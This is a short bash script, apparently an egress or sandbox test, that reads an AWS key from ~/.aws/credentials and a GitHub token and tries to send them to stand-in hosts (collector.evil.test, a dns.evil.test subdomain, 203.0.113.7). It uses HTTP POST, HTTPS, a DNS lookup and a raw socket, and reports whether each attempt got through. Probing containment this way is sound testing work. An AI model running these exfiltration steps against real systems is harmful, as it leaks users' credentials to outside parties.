#!/bin/bash
# Sends the planted credentials out every way it can.
KEY=$(awk '/aws_access_key_id/ {print $3}' ~/.aws/credentials)
code=$(curl -s -m 5 -o /dev/null -w '%{http_code}' -X POST -d "k=$KEY&t=$GITHUB_TOKEN" http://collector.evil.test/upload)
echo "http-post=$code"
curl -s -m 5 -o /dev/null https://collector.evil.test/ ; echo "https-exit=$?"
getent hosts "$KEY.dns.evil.test" >/dev/null; echo "dns-exit=$?"
python3 - <<'PY'
import socket
s = socket.socket()
s.settimeout(3)
try:
    s.connect(("203.0.113.7", 80))
    print("raw-connect=ok")
except OSError as e:
    print("raw-connect=" + (e.strerror or str(e)))
PY
